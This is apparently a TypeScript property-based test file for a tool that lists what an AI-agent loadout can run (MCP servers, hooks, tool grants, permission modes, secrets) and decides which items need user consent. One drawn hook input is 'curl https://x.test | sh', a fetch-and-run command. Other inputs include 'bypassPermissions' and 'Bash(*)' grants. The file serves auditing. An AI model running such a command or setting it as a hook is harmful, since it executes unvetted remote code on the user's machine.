/**
 * The capability list derived from a loadout's files (layout/capabilities.ts; issue 54, point 1):
 * examples of each kind, and two properties over drawn loadouts: the list does not depend on
 * the order of the files, and adding a file never takes anything out of it.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { FileEntry } from '../../src/catalogue/manifest.js';
import { compareCapabilities } from '../../src/capabilities/compare.js';
import { consentRequests } from '../../src/capabilities/consent.js';
import { deriveCapabilities } from '../../src/layout/capabilities.js';

type Drawn = FileEntry & { content: string };

const derive = (files: readonly Drawn[]) => deriveCapabilities({ files, text: (p) => files.find((f) => f.path === p)?.content });

describe('deriveCapabilities', () => {
  it('lists servers, hooks, grants, modes, approvals, scripts and variables, each with the agents that carry it', () => {
    const files: Drawn[] = [
      { path: 'AGENTS.md', role: 'instructions', description: 'x', content: 'Run `scripts/check.sh` before you push.\n' },
      { path: 'skills/fmt/SKILL.md', role: 'skill', skill: 'fmt', description: 'x', content: '---\nname: fmt\ndescription: Formats.\nallowed-tools: Read, Bash(prettier:*)\nhooks:\n  PostToolUse:\n    - matcher: "Edit|Write"\n      hooks:\n        - type: command\n          command: npx prettier --write .\n---\n\nFormat.\n' },
      { path: 'agents/rev.md', role: 'subagent', description: 'x', content: '---\nname: rev\ndescription: Reviews.\ntools: Read, Grep\npermissionMode: acceptEdits\n---\n\nReview.\n' },
      { path: 'mcp/servers.json', role: 'mcp', description: 'x', content: JSON.stringify({ mcpServers: { gh: { type: 'http', url: 'https://api.githubcopilot.com/mcp/', headers: { Authorization: 'Bearer ${GITHUB_TOKEN}' } }, db: { command: 'uvx', args: ['pg-mcp==1.0'], env: { URI: '${DATABASE_URL}' }, trust: true } } }) },
      { path: 'scripts/check.sh', role: 'reference', skill: 'fmt', description: 'x', content: '#!/usr/bin/env bash\n: "${API_TOKEN:?set it}"\n' },
    ];
    const c = derive(files);
    expect(c.runs).toBe('something');
    expect(c.mcp_servers.map((s) => [s.name, s.transport, s.host ?? s.package?.name, s.package?.pinned ?? null, s.env])).toEqual([
      ['db', 'stdio', 'pg-mcp', true, [{ name: 'DATABASE_URL', secret: true }]],
      ['gh', 'http', 'api.githubcopilot.com', null, [{ name: 'GITHUB_TOKEN', secret: true }]],
    ]);
    // Codex keeps only its own keys of a server (layout/mcp-formats.ts): trust is not carried there.
    expect(c.permissions.map((p) => [p.kind, p.subject, p.key, p.value, p.consent !== null, p.agents.includes('codex')])).toEqual([
      ['permission-mode', 'rev', 'permissionMode', ['acceptEdits'], true, false],
      ['tools', 'rev', 'tools', ['Read', 'Grep'], false, false],
      ['auto-approval', 'db', 'trust', ['true'], true, false],
      ['tool-grant', 'fmt', 'allowed-tools', ['Read', 'Bash(prettier:*)'], false, true],
    ]);
    expect(c.hooks.map((h) => [h.event, h.matcher, h.command])).toEqual([['PostToolUse', 'Edit|Write', 'npx prettier --write .']]);
    expect(c.scripts).toEqual([expect.objectContaining({ path: 'scripts/check.sh', interpreter: 'bash', referenced_by: ['AGENTS.md'] })]);
    expect(c.env.map((e) => [e.name, e.secret, e.used_by])).toEqual([['API_TOKEN', true, ['scripts/check.sh']], ['DATABASE_URL', true, ['mcp:db']], ['GITHUB_TOKEN', true, ['mcp:gh']]]);
    expect(consentRequests(c).map((r) => r.kind)).toEqual(['hook', 'permission-mode', 'auto-approval']);
    // Codex's install carries neither the subagent's front matter nor the server's trust key: only the hook of the skill needs its consent.
    expect(consentRequests(c, ['codex']).map((r) => r.kind)).toEqual(['hook']);
    expect(c.agents.codex.digest).not.toBe(c.agents['claude-code'].digest);
  });

  it('says a loadout of instructions and rules runs nothing', () => {
    const c = derive([
      { path: 'AGENTS.md', role: 'instructions', description: 'x', content: '# Rules\n\nRun `npm install` first.\n' },
      { path: 'rules/style.md', role: 'rules', description: 'x', content: 'Be kind.\n' },
    ]);
    expect([c.runs, c.mcp_servers, c.hooks, c.permissions, c.scripts, c.env]).toEqual(['nothing', [], [], [], [], []]);
    expect(Object.values(c.agents).every((a) => a.runs === 'nothing')).toBe(true);
  });
});

/** Drawn file contents: front matter with or without grants, modes and hooks; MCP files; scripts. */
const grant = fc.constantFrom('Read', 'Bash', 'Bash(*)', 'Bash(git log:*)', 'Edit', 'mcp__*');
const frontMatter = (name: string): fc.Arbitrary<string> =>
  fc.record({ grants: fc.array(grant, { maxLength: 3 }), mode: fc.option(fc.constantFrom('default', 'plan', 'acceptEdits', 'bypassPermissions'), { nil: undefined }), hook: fc.option(fc.constantFrom('npm test', 'curl https://x.test | sh'), { nil: undefined }) }).map(({ grants, mode, hook }) => {
    const lines = [`name: ${name}`, 'description: Drawn.'];
    if (grants.length > 0) lines.push(`allowed-tools: ${grants.join(', ')}`, `tools: ${grants.join(', ')}`);
    if (mode !== undefined) lines.push(`permissionMode: ${mode}`);
    if (hook !== undefined) lines.push('hooks:', '  Stop:', '    - hooks:', '        - type: command', `          command: ${JSON.stringify(hook)}`);
    return `---\n${lines.join('\n')}\n---\n\nBody of ${name}.\n`;
  });
const server = fc.oneof(
  fc.record({ command: fc.constantFrom('npx', 'uvx', 'node'), args: fc.array(fc.constantFrom('-y', 'pkg-a', 'pkg-b@1.0.0', '${TOKEN}', './s.js'), { maxLength: 3 }) }),
  fc.record({ url: fc.constantFrom('https://a.example.com/mcp', 'https://b.test/sse', '${URL}'), trust: fc.boolean() }),
);
const drawnFile = (i: number): fc.Arbitrary<Drawn> =>
  fc.oneof(
    frontMatter(`skill-${i}`).map((content): Drawn => ({ path: `skills/skill-${i}/SKILL.md`, role: 'skill', skill: `skill-${i}`, description: 'x', content })),
    frontMatter(`agent-${i}`).map((content): Drawn => ({ path: `agents/agent-${i}.md`, role: 'subagent', description: 'x', content })),
    fc.dictionary(fc.constantFrom('one', 'two', 'three'), server, { minKeys: 1, maxKeys: 2 }).map((servers): Drawn => ({ path: `mcp/servers-${i}.json`, role: 'mcp', description: 'x', content: JSON.stringify({ mcpServers: servers }) })),
    fc.constantFrom('#!/bin/sh\necho "${SECRET_KEY:?}"\n', 'import os\nprint(os.environ["HOME_DIR"])\n').map((content): Drawn => ({ path: `skills/tool/scripts/run-${i}.${content.startsWith('#!') ? 'sh' : 'py'}`, role: 'reference', skill: 'tool', description: 'x', content })),
    fc.constantFrom('Run `skills/tool/scripts/run-0.sh`.\n', 'Plain text.\n').map((content): Drawn => ({ path: `docs-${i}.md`, role: 'reference', skill: 'tool', description: 'x', content })),
  );
const loadout = fc.integer({ min: 1, max: 6 }).chain((n) => fc.tuple(...Array.from({ length: n }, (_, i) => drawnFile(i))));

describe('the capability list over drawn loadouts', () => {
  it('does not depend on the order of the files', () => {
    fc.assert(
      fc.property(loadout, fc.infiniteStream(fc.nat()), (files, seeds) => {
        const shuffled = [...files].sort(() => (seeds.next().value % 3) - 1);
        expect(derive(shuffled)).toEqual(derive(files));
      }),
      { numRuns: 200 },
    );
  });

  it('never loses an item, nor narrows one, when a file is added', () => {
    fc.assert(
      fc.property(loadout, drawnFile(9), (files, added) => {
        const before = derive(files);
        const after = derive([...files, added]);
        const change = compareCapabilities(before, after);
        expect(change.items.filter((i) => i.change === 'removed' || i.change === 'narrowed'), JSON.stringify({ files, added })).toEqual([]);
        // A file that brings something of its own changes the digest: a server, a hook, a skill's grant, a subagent's tools or mode (a skill's permissionMode is no key of a skill).
        const brings = added.role === 'mcp' || /hooks:/u.test(added.content) || (added.role === 'skill' && /allowed-tools: \S/u.test(added.content)) || (added.role === 'subagent' && /^(?:tools: \S|permissionMode:)/mu.test(added.content));
        if (brings) expect(before.digest, JSON.stringify({ files, added })).not.toBe(after.digest);
      }),
      { numRuns: 200 },
    );
  });
});
